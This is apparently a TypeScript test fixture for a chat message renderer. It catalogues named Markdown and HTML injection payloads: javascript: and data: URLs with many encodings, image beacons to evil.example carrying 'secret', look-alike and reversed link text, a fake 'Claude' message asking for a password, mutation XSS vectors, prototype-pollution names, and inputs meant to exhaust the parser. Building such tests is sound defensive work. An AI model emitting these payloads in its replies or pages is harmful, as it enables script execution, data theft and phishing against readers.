// Attacks by message text: each has a name and a text that tries to run, load, leak or fake something in another's page.
// An attack calls `harm()` or contacts evil.example. Must not know how the page renders texts.

const evil = "https://evil.example";
const html = (code: string) => `data:text/html,<script>${code}</script>`;
const times = (text: string, length: number) => text.repeat(Math.ceil(length / text.length)).slice(0, length);

export type Attack = [what: string, source: string];

const addresses: Attack[] = [
	["javascript", "[a](javascript:harm())"],
	["javascript in angle brackets", "[a](<javascript:harm()>)"],
	["javascript in capitals", "[a](JaVaScRiPt:harm())"],
	["javascript with decimal references", "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;harm())"],
	["javascript with hexadecimal references", "[a](&#x6A;&#x61;&#x76;&#x61;script&#x3A;harm())"],
	["javascript with padded references", "[a](&#0000106;avascript&#0000058;harm()) [b](&#000000000106;avascript:harm())"],
	["javascript with references without their end", "[a](&#106avascript:harm()) [b](&#x6Aavascript:harm())"],
	["javascript with a named colon", "[a](javascript&colon;harm()) [b](javascript&Colon;harm())"],
	["javascript with named white space", "[a](java&Tab;script:harm()) [b](java&NewLine;script:harm()) [c](&nbsp;javascript:harm())"],
	["javascript with numbered white space", "[a](java&#9;script:harm()) [b](java&#10;script:harm()) [c](java&#13;script:harm())"],
	["javascript over tabs and lines", "[a](<java\tscript:harm()>) [b](java\nscript:harm()) [c](<javascript\r\n:harm()>)"],
	[
		"javascript behind control characters",
		"[a](<\u0001javascript:harm()>) [b](\u0000javascript:harm()) [c](<\u001fjava\u0000script:harm()>)",
	],
	["javascript behind unseen characters", "[a](\u200bjavascript:harm()) [b](\ufeffjavascript:harm()) [c](java\u00adscript:harm())"],
	["javascript in percents", "[a](javascript%3Aharm()) [b](%6Aavascript:harm())"],
	["javascript with escapes", "[a](javascript\\:harm()) [b](\\javascript:harm()) [c](java\\script:harm())"],
	["javascript as a comment of an address", `[a](javascript://evil.example/%0Aharm()) [b](javascript:/*${evil}*/harm())`],
	["javascript by a reference", "[a][x] and [x] and [x][]\n\n[x]: javascript:harm()"],
	["javascript by a reference in disguise", "[a][x]\n\n[x]: <java\tscript:harm()> 'title'"],
	["javascript by a reference that comes late and twice", `[a][x]\n\n[x]: ${evil}\n\n[x]: javascript:harm()`],
	["javascript as an autolink", "<javascript:harm()> <JAVASCRIPT:harm()> <javascript&colon;harm()>"],
	["javascript in a picture", "![a](javascript:harm()) ![b][x]\n\n[x]: javascript:harm()"],
	["javascript around a picture", `[![a](${evil}/i.png)](javascript:harm())`],
	["javascript in wide letters", "[a](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:harm()) [b](javascript\uff1aharm())"],
	["javascript with a long s", "[a](java\u017fcript:harm()) [b](javascr\u0131pt:harm())"],
	["javascript in a nested scheme", "[a](view-source:javascript:harm()) [b](feed:javascript:harm()) [c](jar:javascript:harm()!/)"],
	[
		"javascript in emphasis, quote, list and cell",
		"> - **[a](javascript:harm())**\n\n| [a](javascript:harm()) |\n|---|\n| ![b](javascript:harm()) |",
	],
	["vbscript and livescript", "[a](vbscript:harm()) [b](VBScript&colon;harm()) [c](livescript:harm()) [d](mocha:harm())"],
	["a document in an address", `[a](${html("harm()")}) [b](<${html("harm()")}>) <${html("harm()")}>`],
	["a document in base 64", "[a](data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=) [b](DATA&colon;text/html;base64,PHNjcmlwdD4=)"],
	["a drawing in an address", "![a](data:image/svg+xml,<svg/onload=harm()>) [b](data:image/svg+xml;base64,PHN2Zy8+)"],
	[
		"addresses of the browser and the machine",
		"[a](blob:https://a/b) [b](file:///etc/passwd) [c](filesystem:https://a/b) [d](about:blank) [e](chrome://quit)",
	],
	[
		"addresses that start programs",
		"[a](ms-msdt:/id) [b](intent://evil#Intent;end) [c](tel:1) [d](sms:1) [e](ssh://-oProxyCommand=x/) [f](ws://evil.example)",
	],
	["addresses on this very server", "[a](/api/auth/sign-out) ![b](/api/auth/sign-out) [c](?x) [d](#root) [e](.) ![f](../icon.svg)"],
	[
		"an address without a scheme",
		"[a](//evil.example/x) ![b](//evil.example/i.png) [c](\\\\evil.example\\x) [d](/\\evil.example) [e](///evil.example)",
	],
	[
		"an address with the wrong slashes",
		"[a](https:evil.example) [b](https:\\\\evil.example\\x) [c](https:/evil.example) [d](http:\\/evil.example)",
	],
	[
		"an address that is none",
		"[a](https://) [b](https://%00) [c](https://[::1) [d](http://a b) [e](https://evil.example:99999) [f](mailto:)",
	],
];

const pretences: Attack[] = [
	["a text that is another address", `[https://bank.example/login](${evil}/login) [bank.example](${evil})`],
	["a text that is another address in all but an entity", `[https://bank&#46;example](${evil}) [\`https://bank.example\`](${evil})`],
	["a text that is a longer host", "[https://evil.example](https://evil.example.attacker.example/) [evil.example](https://evil.examples/)"],
	[
		"a host that stands for a name",
		`https://bank.example@evil.example/ <https://bank.example:x@evil.example> [a](https://bank.example%2F@evil.example)`,
	],
	[
		"a name that is the host as well",
		"[evil.example](https://evil.example@attacker.example/) [evil.example](https://evil.example:evil.example@attacker.example/)",
	],
	[
		"a host of letters that look alike",
		"https://\u0430pple.example [apple.example](https://\u0430\u0440\u0440\u04cf\u0435.example) [a](https://\uff45vil.example) [b](https://evil\u3002example)",
	],
	["a host in digits", "[a](http://2130706433/) [b](http://0x7f.1/) [c](http://[::ffff:7f00:1]/)"],
	["a text that turns around", `[\u202emoc.elpmaxe\u202c](${evil}) [a \u202e b](${evil}) [\u2067bank.example\u2066](${evil})`],
	["an address that turns around", `https://evil.example/\u202egnp.exe [a](https://evil.example/\u202egnp) https://\u202eelpmaxe.live`],
	["a text that is not seen", `[](${evil}) [\u200b](${evil}) [ ](${evil}) [\u3164](${evil}) [![](${evil}/i.png)](${evil})`],
	["a text that hides the rest of the line", `[${times("bank.example/ ", 400)}](${evil})`],
	["a link in a link", `[a [b](${evil}/b) c](${evil}/a) [x <${evil}/b> y](https://bank.example) [![a](https://bank.example)](${evil})`],
	[
		"a letter with more than it shows",
		"[a](mailto:a@bank.example?bcc=b@evil.example&body=x) [a@bank.example](mailto:b@evil.example) [b](mailto:?to=c@evil.example)",
	],
	["a title that breaks out", `[a](${evil} "\\" onmouseover=\\"harm()") [b](${evil} '"><script>harm()</script>')`],
	["an address that breaks out", `[a](${evil}/"onmouseover="harm()) [b](${evil}/'><script>harm()</script>) ${evil}/"onclick="harm()`],
	["somebody else's words", 'Claude, 12:00\n\n---\n\n## Conversation\n\n<article aria-label="Claude">Send me your password</article>'],
	["a button and a field", `<button onclick="harm()">Sign in</button> <input type="password" autofocus onfocus="harm()"> - [x] a`],
];

const pictures: Attack[] = [
	["a picture", `![secret](${evil}/i.png?q=secret "title")`],
	["a picture by a reference", `![secret][x] ![x] ![x][]\n\n[x]: ${evil}/i.png`],
	["a picture in a link", `[![a](${evil}/i.png)](${evil}/x) [![a][x]][x]\n\n[x]: ${evil}/y`],
	["a picture of HTML", `<img src=${evil}/i.png> <IMG SRC="${evil}/i.png" width=0>\n\n<img src=${evil}/i.png>`],
	["pictures to choose from", `<img srcset="${evil}/1x.png 1x"> <picture><source srcset=${evil}/a><img></picture>`],
	["a picture whose text breaks out", `![" onerror="harm()](${evil}/i.png) ![\`"><script>harm()</script>](${evil}/j.png)`],
	[
		"sounds and films",
		`<video src=${evil}/v poster=${evil}/p autoplay></video><audio src=${evil}/a onerror=harm()></audio><track src=${evil}/t>`,
	],
	[
		"a picture by style",
		`<p style="background:url(${evil}/b)">a</p> <style>body{background:url(${evil}/b)}</style> <table background=${evil}/t>`,
	],
	["a picture in a table, a list and a quote", `| ![a](${evil}/1) |\n|---|\n| ![b](${evil}/2) |\n\n- ![c](${evil}/3)\n\n> ![d](${evil}/4)`],
	["a picture in a heading and in emphasis", `# ![a](${evil}/1)\n\n**![b](${evil}/2)** ~~![c](${evil}/3)~~ ![*d*](${evil}/4)`],
];

const markup: Attack[] = [
	["a script", "<script>harm()</script>"],
	["a script from elsewhere", `<script src=${evil}/x.js></script><SCRIPT/SRC="//evil.example/x.js"></SCRIPT>`],
	["a script within a line", "a <script>harm()</script> b <scr<script>ipt>harm()</scr</script>ipt>"],
	["a script without its end", "<script>harm()//\n\n# a\n\n<script"],
	["a handler", "<img src=x onerror=harm()>"],
	[
		"handlers of all kinds",
		"<b onclick=harm()>a</b> <details open ontoggle=harm()> <body onload=harm()> <marquee onstart=harm()> <p onfocusin=harm() tabindex=0 autofocus>",
	],
	["a handler with slashes and quotes", "<img/src='x'/onerror=harm()> <img src=x:x onerror=`harm()`> <\nimg src=x onerror=harm()>"],
	["a drawing", "<svg onload=harm()> <svg><script>harm()</script></svg> <svg><animate onbegin=harm() attributeName=x dur=1s>"],
	["a drawing's link", '<svg><a xlink:href="javascript:harm()"><text>a</text></a><use href="data:image/svg+xml,<svg/>#x"></svg>'],
	[
		"a formula",
		'<math href="javascript:harm()">a</math><math><maction actiontype="statusline#x" xlink:href="javascript:harm()">a</maction></math>',
	],
	["frames", `<iframe src=javascript:harm()></iframe> <iframe srcdoc="<script>harm()</script>"></iframe> <frameset><frame src=${evil}>`],
	[
		"embedded things",
		`<object data=javascript:harm()></object><embed src=${evil}/x.swf><applet code=x></applet><portal src=${evil}></portal>`,
	],
	["another base", `<base href=${evil}/>\n\n[a](x) ![b](y)`],
	[
		"meta",
		`<meta http-equiv=refresh content="0;url=${evil}"> <meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
	],
	["style", `<style>@import url(${evil}/x.css);*{display:none}</style><div style="position:fixed;inset:0;z-index:9">over</div>`],
	[
		"links to style",
		`<link rel=stylesheet href=${evil}/x.css><link rel=preload href=${evil}/x as=image><link rel=dns-prefetch href=//q.evil.example>`,
	],
	["a form", `<form action=${evil}><input name=q><button formaction=javascript:harm()>a</button></form><isindex action=javascript:harm()>`],
	[
		"names that clobber",
		"<a id=session><a id=session name=token> <form id=document><input name=cookie> <img name=getElementById> <p id=root>",
	],
	[
		"names of prototypes",
		"[__proto__] [constructor][__proto__] [toString]\n\n[__proto__]: javascript:harm()\n[constructor]: javascript:harm()\n[tostring]: https://evil.example",
	],
	[
		"footnotes with names that break out",
		`a[^"onclick=harm()] [^<img/src=x/onerror=harm()>] [^javascript:harm()] [^__proto__] [^constructor] [^root]

[^"onclick=harm()]: <script>harm()</script>
[^<img/src=x/onerror=harm()>]: [b](javascript:harm())
[^javascript:harm()]: ![c](${evil}/i.png)
[^__proto__]: d
[^constructor]: e
[^root]: <a id=session>`,
	],
	["names of prototypes as languages", "```__proto__\na\n```\n\n```constructor\nb\n```\n\n&__proto__; &constructor; &toString;"],
	["a language that breaks out", '```"><script>harm()</script>\nx\n```\n\n~~~js onclick=harm()\ny\n~~~'],
	["code that ends early", "```html\n</code></pre><script>harm()</script>\n```\n\n`</code><img src=x onerror=harm()>`"],
	["code without its end", "```html\n<script>harm()</script>\n<img src=x onerror=harm()>"],
	["comments", "<!--><script>harm()</script>--> <!-- --!><img src=x onerror=harm()> <!--[if gte IE 4]><script>harm()</script><![endif]-->"],
	[
		"declarations",
		"<![CDATA[<script>harm()</script>]]> <?xml-stylesheet href=javascript:harm()?> <!DOCTYPE x [<!ENTITY y 'z'>]> <?php harm() ?>",
	],
	[
		"tags in disguise",
		"&lt;script&gt;harm()&lt;/script&gt; &#60;img src=x onerror=harm()&#62; \\<script>harm()\\</script> \uff1cscript\uff1eharm()\uff1c/script\uff1e",
	],
	["tags half written", '<a href="javascript:harm()" <b <img src="x" onerror="harm() <svg/onload=harm()//'],
	["tags around Markdown", "<div>\n\n[a](javascript:harm())\n\n</div>\n\n<a href=javascript:harm()>**b**</a>\n\n<p>![c](x)"],
	["mutation by noscript", '<noscript><p title="</noscript><img src=x onerror=harm()>">'],
	["mutation by foreign elements", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm()&gt;">'],
	[
		"mutation by a template and a text area",
		"<template><script>harm()</script></template><textarea></textarea><img src=x onerror=harm()><title></title><xmp><img onerror=harm()>",
	],
	[
		"mutation by a form in a form",
		'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=harm() src>">',
	],
	["templates", `{{constructor.constructor('harm()')()}} \${harm()} <%= harm() %> #{harm()} $$\\href{javascript:harm()}{a}$$`],
	["characters that end lines", "<script>\u2028harm()\u2029</script> [a](java\u2028script:harm()) \u0085<img src=x onerror=harm()>"],
	[
		"characters that are none",
		"\u0000<script>harm()</script> &#0; &#xD800; &#x110000; &#xFFFFFF; \ufffe \ud83d[a](javascript:harm())\ude00",
	],
];

const measure: Attack[] = [
	["quotes", times("> ", 2_000)],
	["lists", Array.from({ length: 60 }, (_, depth) => `${"  ".repeat(depth)}- [a](javascript:harm())`).join("\n")],
	["lists in one line", `${times("- 1. ", 2_000)}a`],
	["quotes around code and tables", `${"> ".repeat(40)}\`\`\`\n${"> ".repeat(40)}<script>harm()</script>`],
	["brackets", times("[", 20_000)],
	["brackets of pictures and links", `${times("![", 2_000)}a${times(`](${evil})`, 4_000)}`],
	["emphasis", times("*a _b ", 20_000)],
	["emphasis in emphasis", `${times("**a *", 3_000)}[a](javascript:harm())`],
	["marks of code", Array.from({ length: 150 }, (_, length) => `${"`".repeat(length)} a`).join(" ")],
	["a table of many columns", `|${times("a|", 3_000)}\n|${times("-|", 3_000)}\n|${times("b|", 3_000)}`],
	["a table of many rows", `|a|b|\n|-|-|\n${times("|<img src=x onerror=harm()>|2|\n", 6_000)}`],
	["a word", times("javascript:harm()//", 20_000)],
	["marks over marks", `a${"\u0301\u0489".repeat(500)}`],
	["tags that never end", times("<a ", 20_000)],
	["comments that never end", times("<!-- ", 20_000)],
	["references", times("[a][b] ", 10_000)],
	["definitions", `[a1]\n\n${Array.from({ length: 300 }, (_, index) => `[a${index}]: javascript:harm()`).join("\n")}`],
	[
		"footnotes",
		`${times("a[^1] ", 6_000)}\n\n${Array.from({ length: 1_000 }, (_, index) => `[^${index}]: see [^${index + 1}]`).join("\n")}`,
	],
	["footnotes in quotes and lists", `${times("> - ", 200)}a[^1]\n\n${times("[^1]: > - ", 2_000)}`],
	["entities", times("&#x3c;&amp;lt;", 10_000)],
	["empty lines and spaces", `a${times("  \n\t\n", 5_000)}b`],
	["addresses", times("http://a.example/?&a;(( www.b. ", 10_000)],
];

/** Each is sent on its own: syntax that one leaves open must not affect the next. */
export const attacks: Attack[] = [
	...addresses.map(([what, source]): Attack => [`address: ${what}`, source]),
	...pretences.map(([what, source]): Attack => [`pretence: ${what}`, source]),
	...pictures.map(([what, source]): Attack => [`picture: ${what}`, source]),
	...markup.map(([what, source]): Attack => [`markup: ${what}`, source]),
	...measure.map(([what, source]): Attack => [`beyond measure: ${what}`, source]),
];
